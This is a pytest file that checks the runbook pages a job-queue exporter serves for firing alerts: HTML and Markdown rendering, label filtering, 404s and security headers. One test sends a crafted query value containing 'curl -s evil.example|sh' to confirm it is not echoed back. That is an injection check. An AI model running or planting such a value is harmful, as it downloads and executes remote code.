"""The runbook_url of an alert opens: `reliable exporter` serves each runbook at /runbooks/<name>."""

from __future__ import annotations

import html
import json

import httpx
from click.testing import CliRunner

from reliable.cli.main import cli
from reliable.states import Event
from reliable.store import NewJob, StateStore

from support import exporter


def _dead(store: StateStore, job_id: str) -> None:
    store.register(NewJob(job_id=job_id, queue="mail", actor="send", message={}, owner="team-mail"))
    claim = store.claim(job_id, worker_id="w", lease_ttl=60)
    store.finish(job_id, claim.lease_id, Event.DEAD_LETTER, worker_id="w")


def test_runbook_url_of_a_firing_alert_opens_its_runbook_with_the_jobs(store_url: str) -> None:
    store = StateStore(store_url)
    try:
        _dead(store, "dead-1")
    finally:
        store.close()
    with exporter(store_url) as base:
        result = CliRunner().invoke(cli, ["alerts", "test", "--store", store_url, "--json",
                                          "--runbook-base-url", f"{base}/runbooks/"])
        assert result.exit_code == 0, result.output
        (alert,) = [a for a in json.loads(result.output)["alerts"] if a["alertname"] == "ReliableDeadLetterGrowth"]
        url = alert["annotations"]["runbook_url"]
        # The link carries the alert's labels: it opens this alert's jobs, not another actor's.
        assert url == f"{base}/runbooks/reliabledeadlettergrowth?queue=mail&actor=send"
        opened = httpx.get(url, timeout=30)  # what a notification's link opens: an HTML page
        markdown = url.replace("?", ".md?")  # the same runbook as Markdown text
        page = httpx.get(markdown, timeout=30)
        other = httpx.get(markdown, params={"actor": "other"}, timeout=30)
        crafted = httpx.get(markdown, params={"queue": "mail $(curl -s evil.example|sh)"}, timeout=30)
        promql = httpx.get(f"{base}/runbooks/ReliableHeartbeatFailures.md", timeout=30)
        index = httpx.get(f"{base}/runbooks/", timeout=30)
        missing = httpx.get(f"{base}/runbooks/nosuchalert", timeout=30)
    assert opened.status_code == 200 and opened.headers["content-type"] == "text/html; charset=utf-8"
    assert "<h2>ReliableDeadLetterGrowth (warning, route notify, owner team-mail)</h2>" in opened.text
    assert "<li>Job <code>dead-1</code>: DEAD" in opened.text  # no console configured: no job page to link
    assert "default-src 'none'" in opened.headers["content-security-policy"]
    assert page.status_code == 200 and page.headers["content-type"] == "text/plain; charset=utf-8"
    text = page.text
    assert text.startswith("# ReliableDeadLetterGrowth (warning, route notify, owner team-mail)")
    for part in ("## Meaning", "## Mitigation", "Job `dead-1`: DEAD, queue `mail`, actor `send`",
                 "`reliable dlq requeue dead-1 --reason alert:ReliableDeadLetterGrowth`"):
        assert part in text, part
    # The same rendering as `reliable alerts test --json`: the exporter runs with the default base URL, so
    # its links follow the address it is reached at (not 127.0.0.1:9464); plain text, no HTML entity.
    assert text == html.unescape(alert["runbook"]) and "&#" not in text
    assert other.status_code == 200 and "dead-1" not in other.text  # no current alert for that actor
    assert "is not firing here now" in other.text and "(template error" not in other.text
    assert "--actor other" not in other.text  # labels that match no alert are not echoed into commands
    assert crafted.status_code == 200 and "evil.example" not in crafted.text
    assert promql.status_code == 200 and "# ReliableHeartbeatFailures (critical, route page, owner platform)" \
        in promql.text and "No job details" in promql.text
    assert "ReliableHeartbeatFailures is not firing here now" in promql.text  # no Alertmanager configured
    assert index.status_code == 200
    assert f"{base}/runbooks/reliablejobstuck  ReliableJobStuck (store)" in index.text
    assert missing.status_code == 404 and "/runbooks/" in missing.text
